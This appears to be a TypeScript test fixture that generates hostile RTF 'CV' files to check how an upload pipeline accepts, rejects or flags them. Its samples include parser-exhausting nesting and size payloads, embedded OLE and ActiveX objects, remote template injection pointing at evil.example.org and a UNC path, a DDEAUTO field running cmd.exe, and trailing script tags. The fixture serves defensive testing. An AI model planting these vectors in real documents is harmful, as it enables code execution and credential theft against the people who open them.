import { people, rtf } from '../files.ts';
import type { HostileFile } from './hostile.ts';

const cv = rtf(people[0]!).toString().trim().slice(0, -1);
const rich = (what: string, gate: HostileFile['gate'], make: () => string | Buffer, heavy = false): HostileFile => ({
  what: `RTF: ${what}`,
  name: 'cv.rtf',
  gate,
  make: () => Buffer.from(make() as string),
  ...(heavy && { heavy }),
});
const nested = (depth: number) => `${cv}${'{'.repeat(depth)}x${'}'.repeat(depth)}}`;

export const hostileRtfs: readonly HostileFile[] = [
  rich('100,000 groups deep', 'taken', () => nested(1e5)),
  rich('four million groups deep', 'taken', () => nested(4e6), true),
  rich('groups that never end', 'damaged', () => `${cv}${'{'.repeat(1e5)}`),
  rich('groups that end too often', 'taken', () => `${cv}${'}'.repeat(1e5)}`),
  rich('an embedded object', 'active-content', () => `${cv}{\\object\\objemb{\\*\\objdata 0105000002}}}`),
  rich('an object that is drawn at once', 'active-content', () => `${cv}{\\object\\objautlink\\objupdate}}`),
  rich('a control of ActiveX', 'active-content', () => `${cv}{\\object\\objocx}}`),
  rich('a template from elsewhere', 'active-content', () => `${cv}{\\*\\template https://evil.example.org/t.dotm}}`),
  rich('a template from a neighbour', 'active-content', () => `${cv}{\\*\\template \\\\\\\\10.0.0.1\\\\t.dotm}}`),
  rich(
    'a command in a field',
    'active-content',
    () => `${cv}{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k calc"}{\\fldrslt x}}}`,
  ),
  rich('a header that scanners do not know', 'damaged', () => `{\\rtvpn${cv.slice(6)}}`),
  rich('\\bin of two gigabytes, as it says', 'taken', () => `${cv}\\bin2147483647 x}`),
  rich('\\bin of fewer than none', 'taken', () => `${cv}\\bin-5 x}`),
  rich('\\bin that hides the end', 'taken', () => `${cv}\\bin9 }}}}}}}}} visible}`),
  rich('control words of 100,000 letters', 'taken', () => `${cv}\\${'a'.repeat(1e5)} x}`),
  rich('numbers of 100,000 digits', 'taken', () => `${cv}\\fs${'9'.repeat(1e5)} \\u${'9'.repeat(1e5)}? x}`),
  rich('a flood of characters by number', 'taken', () => `${cv}${'\\u-10179?\\u-8704?'.repeat(20_000)}}`),
  rich('a flood of skipped characters', 'taken', () => `${cv}${'\\uc65535\\u65?'.repeat(20_000)}}`),
  rich('half pairs by number', 'taken', () => `${cv}${'\\u-10179?'.repeat(20_000)}}`),
  rich('a picture of 8 MB in hexadecimal', 'taken', () => `${cv}{\\pict\\pngblip ${'ab'.repeat(4e6)}}}`, true),
  rich('10 MB of control words', 'taken', () => `${cv}${'\\b'.repeat(5e6)}}`, true),
  rich('cut in the middle', 'damaged', () => cv.slice(0, -20)),
  rich('zeros behind its end', 'taken', () => Buffer.concat([Buffer.from(`${cv}}`), Buffer.alloc(500)])),
  rich('a script behind its end', 'damaged', () => `${cv}}\n${'<script>alert(1)</script>'.repeat(60)}`),
];
